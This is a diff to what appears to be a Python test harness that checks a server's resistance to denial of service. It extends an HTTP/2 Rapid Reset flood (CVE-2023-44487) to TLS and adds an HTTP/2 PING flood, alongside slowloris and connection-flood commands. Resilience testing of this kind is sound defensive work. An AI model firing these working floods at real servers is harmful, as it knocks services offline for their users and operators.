@@ -10,7 +10,11 @@ Every command prints one line "key=value ..." that the suite checks. Standard li
   nested HOST PORT PATH MIB [tls]    POST of MIB MiB of '[' (TLS with tls)
   slowloris HOST PORT N SECONDS      N connections dripping a request; probes /healthz meanwhile
   flood HOST PORT N                  N idle connections held open; probes /healthz meanwhile
-  rapid-reset HOST PORT STREAMS      HTTP/2 HEADERS + RST_STREAM pairs (CVE-2023-44487)
+  rapid-reset HOST PORT STREAMS [tls]
+                                     HTTP/2 HEADERS + RST_STREAM pairs (CVE-2023-44487), on a
+                                     new connection whenever the server closes one (TLS with
+                                     ALPN h2 with tls)
+  ping-flood HOST PORT FRAMES [tls]  HTTP/2 PINGs, never reading the acknowledgements
 """
 import socket
 import ssl
@@ -19,12 +23,14 @@ import sys
 import time
 
 
-def connect(host, port, tls=False, timeout=10):
+def connect(host, port, tls=False, timeout=10, alpn=None):
     s = socket.create_connection((host, port), timeout=timeout)
     if tls:
         ctx = ssl.create_default_context()
         ctx.check_hostname = False
         ctx.verify_mode = ssl.CERT_NONE
+        if alpn:
+            ctx.set_alpn_protocols(alpn)
         s = ctx.wrap_socket(s)
     return s
 
@@ -191,7 +197,7 @@ def hpack_literal(name_index, value):
     return prefix + bytes([len(value)]) + value
 
 
-def rapid_reset(host, port, streams):
+def rapid_reset(host, port, streams, tls=False):
     headers_block = (b"\x83" + b"\x86" +  # :method POST, :scheme http
                      hpack_literal(4, b"/headroom.v1.ReportService/Report") +
                      hpack_literal(1, b"x") +  # :authority
@@ -203,7 +209,7 @@ def rapid_reset(host, port, streams):
     while sent < streams:
         if s is None:
             try:
-                s = connect(host, port)
+                s = connect(host, port, tls=tls, alpn=["h2"])
             except OSError:
                 time.sleep(0.1)
                 continue
@@ -224,7 +230,7 @@ def rapid_reset(host, port, streams):
             try:
                 while s.recv(65536):
                     pass
-            except BlockingIOError:
+            except (BlockingIOError, ssl.SSLWantReadError):
                 pass
         except OSError:
             s.close()
@@ -233,6 +239,30 @@ def rapid_reset(host, port, streams):
             s.close()
             s = None
     print(f"streams={sent} connections={connections}")
+
+
+def ping_flood(host, port, frames, tls=False):
+    """PINGs in batches of 500 on one connection; prints how many went before a close."""
+    s = connect(host, port, tls=tls, alpn=["h2"])
+    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+    sent, closed = 0, 0
+    batch = h2_frame(6, 0, 0, b"12345678") * 500
+    try:
+        while sent < frames:
+            s.sendall(batch)
+            sent += 500
+    except OSError:
+        closed = 1
+    if not closed:
+        s.settimeout(5)
+        try:
+            while s.recv(65536):
+                pass
+            closed = 1
+        except (socket.timeout, OSError):
+            closed = 1 if not isinstance(sys.exc_info()[1], socket.timeout) else 0
+    s.close()
+    print(f"frames={sent} closed={closed}")
 
 
 def main():
@@ -253,7 +283,9 @@ def main():
     elif cmd == "flood":
         flood(host, port, int(args[0]))
     elif cmd == "rapid-reset":
-        rapid_reset(host, port, int(args[0]))
+        rapid_reset(host, port, int(args[0]), len(args) > 1 and args[1] == "tls")
+    elif cmd == "ping-flood":
+        ping_flood(host, port, int(args[0]), len(args) > 1 and args[1] == "tls")
     else:
         sys.exit(f"unknown command {cmd}")
 
